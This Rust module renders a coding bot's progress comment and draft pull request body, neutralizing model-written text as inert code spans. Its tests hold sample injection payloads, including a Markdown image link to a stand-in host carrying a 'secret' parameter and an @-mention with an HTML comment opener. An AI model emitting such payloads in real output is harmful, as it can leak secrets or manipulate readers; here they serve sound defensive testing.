//! What the bot writes: one progress comment, edited in place as the run goes (the plan
//! as checkboxes, a link to the Actions run, then the result), and the draft pull
//! request's body. Every text carries [`MARKER`] so wright never reads it as a request,
//! and every word wright did not write goes in as inert text ([`inert`]).

mod inert;

use crate::MARKER;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StepState {
    Pending,
    Doing,
    Done,
}

/// How a run ended, in the words the comment and the pull request use.
#[derive(Debug, Clone, Default)]
pub struct Outcome {
    /// `fixed`, `unverified`, `tests_broken`, `not_fixed`, `no_change`, `unknown`.
    pub verdict: String,
    pub verdict_reason: String,
    /// The tests at the base and at the end, each in a line; `None` when not run.
    pub tests_before: Option<String>,
    pub tests_after: Option<String>,
    /// `abc1234 subject`, oldest first.
    pub commits: Vec<String>,
    pub prompt_tokens: u64,
    pub completion_tokens: u64,
    pub cost_usd: Option<f64>,
    pub steps: u32,
    /// Why the run stopped, in words.
    pub stopped: String,
    /// The budget cap that stopped the run, named as the user set it.
    pub cap: Option<String>,
    /// What the model said it did.
    pub summary: String,
    /// Attempts made, and the one the pushed branch holds (1 and 1 for a run of one).
    pub attempts: u32,
    pub selected_attempt: u32,
}

/// An attempt the run made, as the comment and the pull request summarize it.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct AttemptNote {
    pub attempt: u32,
    /// `fixed`, `not_fixed`, ... as for the run.
    pub verdict: String,
    /// Lines added and removed since the attempt's start.
    pub diff_lines: usize,
}

/// The progress comment's state.
#[derive(Debug, Clone, Default)]
pub struct Progress {
    pub run_url: Option<String>,
    pub plan: Vec<(String, StepState)>,
    pub outcome: Option<Outcome>,
    /// The draft pull request, or why there is none.
    pub pull: Option<String>,
    /// What went wrong, when the run could not finish its work.
    pub failure: Option<String>,
    /// The attempts that ended, in order (the last end told of each).
    pub attempts: Vec<AttemptNote>,
}

impl Progress {
    /// The comment's Markdown.
    pub fn render(&self) -> String {
        let mut out = format!("{MARKER}\n");
        let link = self.run_url.as_deref().map(|u| format!(" ([Actions run]({u}))")).unwrap_or_default();
        let heading = match (&self.failure, &self.outcome) {
            (Some(_), _) => "**wright** could not finish",
            (None, Some(_)) => "**wright** finished",
            (None, None) => "**wright** is working on this",
        };
        out.push_str(&format!("{heading}{link}.\n"));
        if let Some(why) = &self.failure {
            out.push_str(&format!("\n> {}\n", one_line(why)));
        }
        if !self.plan.is_empty() {
            out.push_str("\n### Plan\n");
            out.push_str(&checklist(&self.plan));
        }
        if let Some(o) = &self.outcome {
            out.push_str("\n### Result\n");
            out.push_str(&result(o));
            out.push_str(&other_attempts(o, &self.attempts));
        }
        if let Some(pull) = &self.pull {
            out.push_str(&format!("\n{pull}\n"));
        }
        out
    }
}

fn checklist(plan: &[(String, StepState)]) -> String {
    plan.iter()
        .map(|(step, state)| {
            let (mark, tail) = match state {
                StepState::Done => ("x", ""),
                StepState::Doing => (" ", " ← now"),
                StepState::Pending => (" ", ""),
            };
            format!("- [{mark}] {}{tail}\n", one_line(step))
        })
        .collect()
}

fn result(o: &Outcome) -> String {
    let mut out = format!("- **Verdict:** {}: {}\n", one_line(&o.verdict), one_line(&o.verdict_reason));
    let tests = |t: &Option<String>| t.as_deref().map(one_line).unwrap_or_else(|| "not run".into());
    out.push_str(&format!(
        "- **Tests before:** {}\n- **Tests after:** {}\n",
        tests(&o.tests_before),
        tests(&o.tests_after)
    ));
    match o.commits.as_slice() {
        [] => out.push_str("- **Commits:** none\n"),
        commits => {
            out.push_str("- **Commits:**\n");
            for c in commits {
                out.push_str(&format!("  - {}\n", one_line(c)));
            }
        }
    }
    let cost = o.cost_usd.map(|c| format!(", ${c:.4}")).unwrap_or_default();
    out.push_str(&format!(
        "- **Usage:** {} steps, {} tokens ({} prompt + {} completion){cost}\n",
        o.steps,
        o.prompt_tokens + o.completion_tokens,
        o.prompt_tokens,
        o.completion_tokens
    ));
    let cap = o.cap.as_deref().map(|c| format!(" (budget cap hit: {c})")).unwrap_or_default();
    out.push_str(&format!("- **Stopped:** {}{cap}\n", one_line(&o.stopped)));
    out
}

/// The attempts the branch does not hold, in a short section of their own (nothing for a
/// run of one attempt): they stay on branches in the run's checkout, never pushed.
fn other_attempts(o: &Outcome, attempts: &[AttemptNote]) -> String {
    let others: Vec<&AttemptNote> = attempts.iter().filter(|a| a.attempt != o.selected_attempt).collect();
    if o.attempts <= 1 || others.is_empty() {
        return String::new();
    }
    let mut out = format!(
        "\n### Other attempts\nThe branch holds attempt {} of {}, selected by the tests; the others were not pushed:\n",
        o.selected_attempt, o.attempts
    );
    for a in others {
        out.push_str(&format!("- attempt {}: {}, {} lines changed\n", a.attempt, one_line(&a.verdict), a.diff_lines));
    }
    out
}

/// The draft pull request's title: the task's first line, kept short.
pub fn pull_title(task_line: &str, issue: u64) -> String {
    let short = inert::plain(task_line, 72);
    if short.is_empty() { format!("wright: work on #{issue}") } else { format!("wright: {short}") }
}

/// The draft pull request's body.
pub fn pull_body(progress: &Progress, issue: u64) -> String {
    let mut out = format!("{MARKER}\nDrafted by **wright** for #{issue}; review it before marking it ready.\n");
    if let Some(o) = &progress.outcome
        && !o.summary.trim().is_empty()
    {
        out.push_str("\n### Summary\n");
        out.push_str(&quote(&o.summary));
        out.push('\n');
    }
    if !progress.plan.is_empty() {
        out.push_str("\n### Plan\n");
        out.push_str(&checklist(&progress.plan));
    }
    if let Some(o) = &progress.outcome {
        out.push_str("\n### Tests and usage\n");
        out.push_str(&result(o));
        out.push_str(&other_attempts(o, &progress.attempts));
    }
    out.push_str(&format!("\nCloses #{issue}\n"));
    out
}

/// Text the model wrote, as a quote of inert lines: it cannot start headings, close the
/// comment's structure, or render.
fn quote(text: &str) -> String {
    let line = |l: &str| match inert::code(l, 1000) {
        span if span.is_empty() => ">\n".to_string(),
        span => format!("> {span}\n"),
    };
    text.lines().take(40).map(line).collect()
}

/// One line of someone else's words (the model's, a verdict's, a command's), made inert
/// to post: a code span that renders nothing, pings no one and links no issue.
pub fn one_line(text: &str) -> String {
    inert::code(text, 300)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn progress_shows_the_plan_then_the_result() {
        let mut p = Progress {
            run_url: Some("https://gh/o/r/actions/runs/1".into()),
            plan: vec![("Read parse()".into(), StepState::Done), ("Fix it".into(), StepState::Doing)],
            ..Progress::default()
        };
        let working = p.render();
        assert!(working.starts_with(MARKER), "{working}");
        assert!(working.contains("is working on this ([Actions run](https://gh/o/r/actions/runs/1))"), "{working}");
        assert!(working.contains("- [x] `Read parse()`\n- [ ] `Fix it` ← now\n"), "{working}");
        p.outcome = Some(Outcome {
            verdict: "not_fixed".into(),
            verdict_reason: "test_parse still fails".into(),
            stopped: "the step budget ran out".into(),
            cap: Some("max_steps = 3".into()),
            ..Outcome::default()
        });
        let done = p.render();
        assert!(done.contains("`not_fixed`: `test_parse still fails`"), "{done}");
        assert!(done.contains("(budget cap hit: max_steps = 3)"), "{done}");
    }

    #[test]
    fn the_attempts_the_branch_does_not_hold_are_summarized_once_the_run_ended() {
        let note = |attempt, verdict: &str, diff_lines| AttemptNote { attempt, verdict: verdict.into(), diff_lines };
        let mut p = Progress { attempts: vec![note(1, "not_fixed", 4), note(2, "fixed", 2)], ..Progress::default() };
        assert!(!p.render().contains("Other attempts"), "not while the run goes");
        p.outcome = Some(Outcome { attempts: 3, selected_attempt: 2, ..Outcome::default() });
        p.attempts.push(note(3, "no_change", 0));
        let section = "\n### Other attempts\nThe branch holds attempt 2 of 3, selected by the tests; the others were not pushed:\n- attempt 1: `not_fixed`, 4 lines changed\n- attempt 3: `no_change`, 0 lines changed\n";
        for text in [p.render(), pull_body(&p, 4)] {
            assert!(text.contains(section), "{text}");
        }
        p.outcome = Some(Outcome { attempts: 1, selected_attempt: 1, ..Outcome::default() });
        p.attempts = vec![note(1, "fixed", 2)];
        assert!(!p.render().contains("attempt"), "a run of one attempt says nothing of attempts");
    }

    #[test]
    fn the_models_words_cannot_ping_or_hide() {
        let p = Progress { failure: Some("ask @admin <!-- x".into()), ..Progress::default() };
        let text = p.render();
        assert!(text.contains("> `ask @\u{200B}admin <!-- x`"), "{text}");
        let body = pull_body(&p, 4);
        assert!(body.ends_with("Closes #4\n"), "{body}");
        let said = Outcome { summary: "Fixes #12 as well".into(), ..Outcome::default() };
        let body = pull_body(&Progress { outcome: Some(said), ..Progress::default() }, 4);
        assert!(body.contains("Fixes #\u{200B}12") && !body.contains("Fixes #12"), "{body}");
        assert_eq!(pull_title("", 4), "wright: work on #4");
    }

    /// `markdown` without its code spans: what renders as Markdown.
    fn prose(markdown: &str) -> String {
        let mut out = String::new();
        let mut rest = markdown;
        while let Some(at) = rest.find('`') {
            out.push_str(&rest[..at]);
            let run = rest[at..].len() - rest[at..].trim_start_matches('`').len();
            let after = &rest[at + run..];
            let fence = "`".repeat(run);
            // The next run of exactly this many backticks closes the span.
            let close = (0..after.len()).filter(|&i| after.is_char_boundary(i)).find(|&i| {
                after[i..].starts_with(&fence) && !after[i + run..].starts_with('`') && !after[..i].ends_with('`')
            });
            match close {
                Some(i) => rest = &after[i + run..],
                None => {
                    out.push_str(&rest[at..at + run]);
                    rest = after;
                }
            }
        }
        out + rest
    }

    #[test]
    fn nothing_the_model_wrote_renders() {
        let evil = "see ![x](https://evil.example/?d=secret) [click](https://evil.example) \
                    https://evil.example/leak <img src=x> ``` `x` ";
        let outcome = Outcome {
            verdict: "fixed".into(),
            verdict_reason: evil.into(),
            tests_before: Some(evil.into()),
            commits: vec![format!("abc1234 {evil}")],
            stopped: evil.into(),
            summary: format!("{evil}\n\n{evil}"),
            ..Outcome::default()
        };
        let progress = Progress {
            plan: vec![(evil.into(), StepState::Done)],
            outcome: Some(outcome),
            failure: Some(evil.into()),
            ..Progress::default()
        };
        for text in [progress.render(), pull_body(&progress, 4)] {
            let shown = prose(&text);
            for bad in ["![", "](", "evil.example", "<img", "https://"] {
                assert!(!shown.contains(bad), "{bad} renders in:\n{text}\nprose:\n{shown}");
            }
            assert!(text.contains("[click](https://evil.example)"), "the words are still there: {text}");
        }
    }
}
